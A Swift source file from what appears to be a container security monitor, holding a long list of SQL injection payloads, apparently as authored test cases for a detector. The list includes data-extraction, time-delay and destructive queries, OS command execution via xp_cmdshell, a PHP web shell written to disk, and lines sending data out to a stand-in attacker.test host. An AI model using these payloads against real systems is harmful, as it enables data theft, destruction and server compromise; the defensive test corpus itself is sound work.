// Jaga - container security monitor
// SPDX-License-Identifier: Apache-2.0

extension AuthoredCases {
    /// Injections of SQL for MySQL, PostgreSQL, SQL Server, Oracle and SQLite.
    static let sql = #"""
        1' OR '1'='1
        1' OR '1'='1' -- -
        ' or 1=1#
        admin'--
        admin' #
        admin'/*
        ' or ''='
        " or ""="
        ') or ('a'='a
        ")) or (("x"="x
        1 or 1=1
        1 OR 2>1
        1)) or ((1=1
        -1 union select 1,2,3
        -1' UNION ALL SELECT NULL,NULL,NULL-- 
        1 union select username,password from users
        1 UNION SELECT @@version
        0 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()
        1'+union+distinct+select+1,2--+
        1/**/union/**/select/**/1,2,3
        1/*!50000union*//*!50000select*/1,2
        1 UnIoN/*x*/SeLeCt 1
        1'||(select version())||'
        1' and sleep(5)-- 
        1 and sleep(5)
        1' and (select 1 from (select(sleep(5)))a)-- 
        1;waitfor delay '0:0:5'--
        1'; WAITFOR DELAY '00:00:05'--
        1;select pg_sleep(5)--
        1'||pg_sleep(5)--
        1 and 1=dbms_pipe.receive_message('a',5)
        1' and extractvalue(1,concat(0x7e,version()))-- 
        1 and updatexml(1,concat(0x7e,(select user())),1)
        1' AND 1=CONVERT(int,(SELECT @@version))--
        1 and 1=cast((select version()) as int)
        1; drop table users
        1'; DROP TABLE users;--
        1; insert into users(name,pass) values('a','b')
        1'; update users set password='x' where id=1--
        1; exec xp_cmdshell 'whoami'
        1'; exec master..xp_cmdshell 'dir c:\'--
        1; EXEC sp_configure 'show advanced options',1; RECONFIGURE
        1' order by 10-- 
        1 order by 5--
        1 group by 1,2,3 having 1=1
        id' having 1=1--
        1' and ascii(substring((select database()),1,1))>64-- 
        1 and (select count(*) from users)>0
        1' and exists(select * from users)-- 
        1' and substr(version(),1,1)='5
        1 and length(database())=8
        1' and if(1=1,sleep(3),0)-- 
        1 and case when 1=1 then 1 else 0 end=1
        1' rlike (select (case when (1=1) then 1 else 0x28 end))-- 
        (select case when (1=1) then 1 else 1/0 end)
        1 and 1=2 union select load_file('/etc/passwd')
        1' union select '<?php system($_GET[1]);?>' into outfile '/var/www/html/x.php'-- 
        ' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--
        1 limit 1,1 procedure analyse()
        1' and 1=utl_inaddr.get_host_address((select user from dual))--
        1' and ctxsys.drithsx.sn(1,(select banner from v$version where rownum=1))=1--
        ' || (select banner from v$version where rownum=1) || '
        1 union select null,table_name from all_tables
        1 union select name from sqlite_master
        1 union select sql from sqlite_schema
        1 and 1=randomblob(100000000)
        1' and 1=like('abcdefg',upper(hex(randomblob(100000000/2))))--
        1 union select name,null from sysobjects where xtype='u'
        1 union select table_name,2 from information_schema . tables
        '-'
        '&'
        '^'
        '*'
        '=0--+
        '<99
        ' or true--
        ' or 1 limit 1-- -
        admin' or 1=1 or ''='
        x' AND email IS NULL; --
        x' AND 1=(SELECT COUNT(*) FROM tabname); --
        1' AND (SELECT 6377 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(6377=6377,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- 
        1) AND 5127=5127 AND (7143=7143
        1' AND 8237=8237 AND 'kYpz'='kYpz
        1 AND 3516=CAST((CHR(113)||CHR(122))||(SELECT 1)::text AS NUMERIC)
        1');SELECT PG_SLEEP(5)--
        1 RLIKE SLEEP(5)
        1 OR ELT(9313=9313,SLEEP(5))
        1%' AND 1=1 AND '%'='
        -8913' OR 1=1#
        (SELECT CONCAT(CONCAT('qkbvq',(CASE WHEN (1=1) THEN '1' ELSE '0' END)),'qbvbq'))
        1 AND GTID_SUBSET(CONCAT(0x71,(SELECT 1)),1)
        1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x71,1)) USING utf8)))
        1 AND EXP(~(SELECT * FROM (SELECT CONCAT(0x71,0x71,0x78))x))
        1 procedure analyse(1,1)
        if(now()=sysdate(),sleep(6),0)
        0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z
        0"XOR(if(now()=sysdate(),sleep(6),0))XOR"Z
        (select(0)from(select(sleep(6)))v)
        1 or sleep(5)#
        benchmark(10000000,MD5(1))#
        1 or benchmark(10000000,MD5(1))#
        '||(elt(-3+5,bin(15),ord(10),hex(char(45))))
        1 union(select(1),(2),(3))
        1&&sleep(3)
        1||1=1
        1 || 1 like 1
        ' like '%
        ' in ('a')--
        1 is not null
        1 between 1 and 2
        1' between '0' and '9
        1' regexp '^a
        id=1 and 1<2
        ' having count(*)>0--
        1 union values(1,2)
        1 union table users
        1 intersect select 1
        1 except select 1
        1' and @@version like '%
        '; begin declare @x varchar(99) set @x=0x77 exec(@x) end--
        ';declare @q varchar(99);set @q='\\x.attacker.test\a';exec master.dbo.xp_dirtree @q;--
        1;copy (select '') to program 'id'
        '; copy cmd_exec from program 'id';--
        1;create table t(a text)
        1;create or replace function f() returns int as $$ begin return 1; end $$ language plpgsql
        1;select lo_import('/etc/passwd')
        1 and 1=(select lo_import('/etc/passwd'))
        1;attach database '/var/www/x.php' as x
        1;truncate table logs
        1;delete from users
        1;delete from users where 1=1
        1;alter table users drop column id
        1;grant all on *.* to 'x'@'%'
        1;shutdown
        1;shutdown with nowait
        1' and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1)-- 
        1 and(select 1)=(select 0x414141)
        1 and 0x61=0x61
        1 and 'a' = 'a'
        1 and "a"="a"
        a' or 'a' in ('a','b')--
        a' or 3 in (1,2,3)--
        \' or 1=1--
        %bf' or 1=1--
        %' or '1'='1
        %27) or 1=1--
        1 exec sp_ (or exec xp_)
        1 and 1=1
        1 and 1=2
        1' and 1=1
        1' and '1'='2
        1'and'1'='1
        1'or'1'='1
        1"or"1"="1
        1)or(1=1
        1 oR 1=1 lImIt 1
        1	or	1=1
        1+or+1=1
        1 or/**/1=1
        1 or--%0a1=1
        1' or 1=1;%00
        select * from users
        select * from users where id=1
        SELECT user,password FROM mysql.user
        select @@version
        select version()
        select pg_read_file('/etc/passwd')
        select sleep(10)
        select load_file(0x2f6574632f706173737764)
        select current_user
        select name from master..sysdatabases
        SELECT banner FROM v$version
        select 1 from dual
        select * from all_tab_columns
        select table_name from user_tables
        select first_name || ' ' || last_name from employees
        insert into users values (1,'a')
        update users set admin=1
        update users set admin=1 where name='x'
        delete from users where id=1
        drop table users
        drop database prod
        create user x identified by 'y'
        exec xp_cmdshell('dir')
        exec sp_makewebtask
        declare @a int
        truncate table users
        1,(select 1)
        1,sleep(5)
        name,(select case when 1=1 then 1 else 2 end)
        (case when 1=1 then name else id end)
        id desc,(select 1 from dual where 1=1)
        id;select 1
        id asc limit 1 offset 1 union select 1
        extractvalue(1,concat(0x5c,user()))
        updatexml(null,concat(0x0a,version()),null)
        if(1=1,1,(select 1 union select 2))
        iif(1=1,1,1/0)
        1/(select 0)
        1-(select 1)
        1*(case when(1=1) then 1 else 0 end)
        concat('a',(select user()))
        char(97)+char(98)
        chr(97)||chr(98)||chr(99)
        0x61646d696e or 1=1
        unhex('61')
        user()
        version()
        database()
        @@datadir
        @@version--
        current_setting('is_superuser')
        pg_ls_dir('.')
        db_name()
        system_user
        1' and json_extract('{"a":1}','$.a')=1-- 
        1' and '{"a":1}'::jsonb @> '{"a":1}'::jsonb-- 
        1 and 1::int=1
        '::text||(select 1)
        1' waitfor delay '0:0:10
        ' union select 1 /*
        ' union select 1 -- 
        ' union all select null #
        'union(select(1))#
        '%0aunion%0aselect%0a1#
        1'union/**_**/select 1,2 from/**_**/dual-- 
        1'/*!union*/ /*!select*/1-- 
        1' un/**/ion sel/**/ect 1-- 
        1' uniunionon selselectect 1-- 
        1 a=(select 1)
        x'; return true; var x='
        1' and 1 in (select min(name) from sysobjects where xtype='U' and name>'.')--
        ' and 1=(select top 1 name from sysobjects)--
        ' or 1=1 into @a,@b--
        1' and pg_sleep(1) is null--
        ';select pg_sleep(1) from pg_user where usename like 'p%'--
        1' and 1=(select 1 from pg_sleep(5))--
        1' and dbms_lock.sleep(5)=1--
        1'||utl_http.request('http://x.attacker.test/'||(select user from dual))||'
        1' union select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://a.test/">%x;]>'),'/l') from dual--
        7' anD 9=9 Or 'q'='r
        abc') AND 1=1 AND ('x'='x
        105 OR 105=105
        5 || (select 1)
        '+(select 1 from dual)+'
        "+(select @@version)+"
        -5 OR 17-7=10
        99') or ('1'='1'--
        if(substring(user(),1,1)=char(114),benchmark(500000,sha1(1)),0)
        42 and (ascii(mid((select password from users limit 0,1),1,1)))>100
        1' and updatexml(rand(),concat(0x3a,(select 1)),null)#
        3 procedure analyse (extractvalue(0,concat(0x3a,version())),1)
        x' and 1=(select count(*) from all_users t1, all_users t2)--
        10; select pg_sleep(10)
        10); select pg_sleep(10)--
        ');waitfor delay '0:0:20'--
        1 waitfor delay '0:0:20'
        19 and 1 in (select @@version)
        1 and db_name()='master'
        convert(int,@@version)
        cast(version() as numeric)
        1 and 1=(select top 1 table_name from information_schema.tables)
        ' or exists(select 1 from users where username='admin' and length(password)>5) and '1'='1
        5 union all select 1,table_name,3 from information_schema.tables
        .1union/*.*/select 2
        1e0union select 1
        1.union select 1,2
        -1%0Aunion%0Aselect%0A1,2,3
        id=-1/**/UNION/**/ALL/**/SELECT/**/1,2
        1' /*!00000or*/ 1=1#
        0 div 1 union#foo
        '||'a'||'
        a'||'b
        x'||(select null)||'
        1'||dbms_pipe.receive_message(chr(98),5)||'
        1 or 1 in (1)
        1 or not false
        1' or '1' like '1
        ' or 1 -- '
        ' or 'x'!='y
        ') or '1'='1'/*
        1' group by users.id having 1=1--
        1 order by 100
        id,(case when ((select 1)=1) then 1 else 1/0 end)
        name;drop table x--
        1;exec('drop table x')
        '; exec sp_addlogin 'x','y'--
        '; merge into users using dual on (1=1)--
        1; vacuum
        1' and sqlite_version()>'3
        1 and substr((select sql from sqlite_master limit 1),1,1)='C'
        select count(*) from users group by name
        select name, pass from members where id = 5
        SELECT TOP 1 name FROM sys.tables
        select distinct user from mysql.db
        with x as (select 1) select * from x
        select 1,2,3
        select 1;
        SELECT CHAR(65)
        select hex(load_file('/etc/passwd'))
        select user from users into outfile '/tmp/x'
        insert into t select * from u
        replace into users values (1)
        delete from users where name like '%'
        admin' and '1'='1
        admin" or "1"="1"--
        admin') or 1=1--
        admin' or 1=1 limit 1;#
        root'/**/or/**/true#
        0x27206f7220313d31
        %2527%2520or%25201%253D1
        %u0027 or 1=1--
        ʼ or 1=1--
        ＇ or 1=1--
        1 AND (SELECT 4523 FROM(SELECT COUNT(*),CONCAT(0x7171767071,(SELECT (ELT(4523=4523,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.CHARACTER_SETS GROUP BY x)a)
        -2345 UNION ALL SELECT NULL,CONCAT(0x71,0x72),NULL#
        1) UNION ALL SELECT NULL--
        1" AND 3=3 AND "a"="a
        1 AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS CHAR),0x20)),1,1))>48
        1' AND 2631=(SELECT UPPER(XMLType(CHR(60)||CHR(58))) FROM DUAL) AND 'x'='x
        1 AND 9=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))
        (SELECT (CASE WHEN (5=5) THEN 1 ELSE 5*(SELECT 5 FROM INFORMATION_SCHEMA.SYSTEM_USERS) END))
        """#
}
